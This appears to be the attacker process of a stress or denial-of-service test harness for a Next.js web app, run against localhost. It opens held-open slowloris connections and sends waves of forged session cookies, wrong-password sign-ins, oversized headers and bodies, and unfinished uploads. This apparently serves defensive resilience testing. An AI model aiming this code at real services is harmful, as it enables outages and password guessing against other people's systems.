/** The attacker's own machine: a process apart, so that its work does not count into the times of the city's visitors. */
import http from 'node:http'
import { connect } from 'node:net'
import os from 'node:os'
import { setTimeout as sleep } from 'node:timers/promises'

/** Where the attack comes from: no proxy of the city, so that what it says of its address does not count. */
const ATTACKER = '127.0.0.9'
const PATIENCE_MS = 20_000
/** Between two shots of one line: what a line over the network would need. */
const PAUSE_MS = 20
/** So many silent lines are opened at once, and as many again after so long: 500 a second. More is a flood of packets, which the firewall before the city stops (docs/operations.md). */
const AT_ONCE = 50
const AT_ONCE_MS = 100
/** It shares the city's processors only because this is one machine: it comes last. */
const QUIETLY = 10
const BODY = { 'content-type': 'application/x-www-form-urlencoded' }
const MULTIPART = { 'content-type': 'multipart/form-data; boundary=x' }
/** A file that nobody announced, in a form that breaks off. */
const BROKEN_OFF = `--x\r\ncontent-disposition: form-data; name="extra"; filename="a.pdf"\r\n\r\n%PDF-1.7${'x'.repeat(100_000)}`
const UNFINISHED_BYTES = 49 * 1024 ** 2

const b64 = (text) => Buffer.from(text).toString('base64')
const part = ([name, value]) => `--x\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
const form = (fields) => `${fields.map(part).join('')}--x--\r\n`

/**
 * Everything of which one address can make much, the same again and again with ever new values.
 * @param {import('./lib/attack').Means} means
 * @returns {Record<string, (n: number) => { method?: string, path: string, headers?: object, body?: string }>}
 */
const waves = ({ form: signIn, names, own: { cookie, draftId } }) => ({
  madeUpSessions: (n) => ({ path: '/desk', headers: { cookie: `__Host-yizhan.session=eyJhbGciOiJkaXIi.${n}.${n}` } }),
  authorizations: (n) => ({ path: `/services?x=${n}`, headers: { authorization: `Bearer ${n}` } }),
  framework: (n) => ({ path: `/documents?_rsc=${n}`, headers: { rsc: '1' } }),
  compressions: (n) => ({
    path: `/_next/static/chunks/none-${n}.js?x=${n}`,
    headers: { 'accept-encoding': 'br, gzip' },
  }),
  images: (n) => ({ path: `/_next/image?url=%2Ficon.svg&w=3840&q=${n % 100}` }),
  searches: (n) => ({ path: `/search?q=${encodeURIComponent(`词${n}许可`)}` }),
  log: (n) => ({ method: 'POST', path: '/api/auth/_log', headers: BODY, body: `message=${n}${'x'.repeat(50_000)}` }),
  signOuts: (n) => ({ method: 'POST', path: '/api/auth/signout', headers: BODY, body: `csrfToken=${n}` }),
  actionBodies: (n) => ({
    method: 'POST',
    path: '/sign-in',
    headers: MULTIPART,
    body: form([['$ACTION_REF_1', `${n}`]]),
  }),
  longHeads: (n) => ({ path: '/', headers: { cookie: `a${n}=${'x'.repeat(30_000)}` } }),
  wrongPasswords: (n) => {
    const typed = [...signIn, ['name', names[n % names.length]], ['password', `wrong-${n}`]]
    return { method: 'POST', path: '/sign-in', headers: MULTIPART, body: form(typed) }
  },
  unfinishedUploads: (n) => {
    const told = [`draftId ${b64(draftId)}`, `materialKey ${b64('extra')}`, `filename ${b64(`${n}.pdf`)}`].join(',')
    const tus = { 'tus-resumable': '1.0.0', 'upload-length': String(UNFINISHED_BYTES), 'upload-metadata': told }
    return { method: 'POST', path: '/api/uploads', headers: { cookie, ...tus } }
  },
  chunkedForms: () => ({
    ...{ method: 'POST', path: `/api/uploads/form?draft=${draftId}&back=/my/drafts`, body: BROKEN_OFF },
    headers: { cookie, 'transfer-encoding': 'chunked', ...MULTIPART },
  }),
})

/** Sends one; its status, or `cut` where there was none. */
function fire(origin, { method = 'GET', path, headers, body }) {
  const { host, port } = new URL(origin)
  const all = { host, ...(method === 'POST' && { origin }), ...headers }
  return new Promise((resolve) => {
    const request = http.request({
      ...{ host: '127.0.0.1', port, localAddress: ATTACKER, method, path, headers: all },
      ...{ agent: false, timeout: PATIENCE_MS },
    })
    request.on('timeout', () => request.destroy())
    request.on('error', () => resolve('cut'))
    request.on('response', (response) => {
      response.on('error', () => resolve('cut'))
      response.resume().on('end', () => resolve(response.statusCode))
    })
    request.end(body)
  })
}

/** A connection whose first line never ends; `lost` is told when the city closes it. */
function holdLine(origin, lost) {
  const socket = connect({ host: '127.0.0.1', port: Number(new URL(origin).port), localAddress: ATTACKER })
  socket.on('error', () => {})
  socket.on('connect', () => socket.write('GET / HTTP/1.1\r\nX-'))
  socket.on('close', lost)
}

/** As many such lines as asked for; those the city closes are opened anew, so many a second. */
async function holdLines(origin, count, isOver) {
  let lost = count
  while (!isOver()) {
    for (const _ of Array.from({ length: Math.min(lost, AT_ONCE) })) {
      lost -= 1
      holdLine(origin, () => {
        lost += 1
      })
    }
    await sleep(AT_ONCE_MS)
  }
}

/** @param {{ origin: string, lines: number, halfOpen: number, means: import('./lib/attack').Means }} order */
async function attack({ origin, lines, halfOpen, means }) {
  os.setPriority(QUIETLY)
  const sent = {}
  let isOver = false
  process.once('message', () => {
    isOver = true
  })
  const silent = holdLines(origin, halfOpen, () => isOver)
  const shots = Object.entries(waves(means)).flatMap(([kind, shot]) =>
    Array.from({ length: lines }, async (_, place) => {
      for (let n = place; !isOver; n += lines) {
        const name = `${kind} ${await fire(origin, shot(n))}`
        sent[name] = (sent[name] ?? 0) + 1
        await sleep(PAUSE_MS)
      }
    }),
  )
  await Promise.all([silent, ...shots])
  process.send(sent, () => process.exit(0))
}

process.once('message', (order) => void attack(order))
process.once('disconnect', () => process.exit(0))
